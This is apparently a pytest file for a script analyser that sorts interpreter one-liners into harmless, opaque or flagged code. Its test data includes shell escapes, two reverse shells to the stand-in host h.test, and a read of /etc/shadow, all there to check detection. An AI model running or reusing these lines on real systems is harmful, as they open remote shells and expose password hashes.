"""Scripts without a parser: what only computes claims nothing, all else is opaque, and what is plain makes signals."""

import pytest

from interlock.analyst.claims import NO_ANALYSER
from interlock.analyst.scripts import bare_shell, reader
from support.analysing import place

# fmt: off
COMPUTES = [
    ("perl", "print if /total/"), ("perl", "s/red/blue/g"), ("perl", "print $F[0] if $F[2] > 9"),
    ("perl", "$s += $_; END { print $s }"), ("ruby", "puts [1, 2].map { |x| x * 2 }.sum"), ("ruby", "puts $_.upcase"),
    ("php", "echo PHP_VERSION;"), ("lua", "print(1 + 1)"), ("javascript", "console.log(process.version)"),
    ("other", "summary(cars)"),
]
OPAQUE = [
    ("perl", "print `id`"), ("perl", "s/(.)/uc $1/e"), ("perl", "/'/; system('id'); /'/"), ("perl", "@ARGV = ('id|'); print <>"),
    ("perl", "print 'x' # it's\n; unlink 'a'"), ("ruby", 'puts "#{`id`}"'), ("ruby", "Kernel.send(:exit)"),
    ("php", '"sys"("id");'), ("php", '$f("id");'), ("lua", "print(os.getenv('HOME'))"),
    ("javascript", '[]["at"]["constructor"]("return 1")()'), ("javascript", "console.log(require('./a.json'))"),
    ("other", "write(x, 'a')"), ("perl", "print 1;" * 3000),
]
SIGNALS = [
    ("perl", 'exec "/bin/sh";', "shell.escape"), ("ruby", 'system("bash -i")', "shell.escape"),
    ("php", "passthru('/bin/sh');", "shell.escape"), ("lua", "os.execute('/bin/sh')", "shell.escape"),
    ("javascript", "require('child_process').spawn('/bin/sh')", "shell.escape"),
    ("ruby", "c = TCPSocket.new('h.test', 9); while l = c.gets; IO.popen(l) { |i| c.print i.read } end", "shell.reverse"),
    ("php", '$s = fsockopen("h.test", 9); exec("sh <&3");', "shell.reverse"),
    ("ruby", "puts File.read('/etc/shadow')", "credential.read"),
]
# fmt: on


@pytest.mark.parametrize(("language", "text"), COMPUTES)
def test_what_only_computes_has_no_effect(language: str, text: str) -> None:
    claims = reader(language)(text, place())
    assert (list(claims.touched), list(claims.opaque_codes), list(claims.signals)) == ([], [], [])


@pytest.mark.parametrize(("language", "text"), OPAQUE)
def test_all_else_is_opaque(language: str, text: str) -> None:
    assert next(iter(reader(language)(text, place()).opaque_codes)) == NO_ANALYSER


@pytest.mark.parametrize(("language", "text", "signal"), SIGNALS)
def test_what_is_plain_makes_a_signal(language: str, text: str, signal: str) -> None:
    claims = reader(language)(text, place())
    assert signal in claims.signals
    assert NO_ANALYSER in claims.opaque_codes


def test_commands_are_read_as_a_shell_would() -> None:
    handed: list[str] = []
    reader("perl")("system('rm -r build'); print `ls -l`;", place(handed))
    assert sorted(handed) == ["ls -l", "rm -r build"]


def test_a_bare_shell_is_one_that_nobody_gives_commands_to() -> None:
    assert [bare_shell(text) for text in ("/bin/sh", "bash -i", "sh -c 'ls'", "sh script.sh")] == [
        True,
        True,
        False,
        False,
    ]
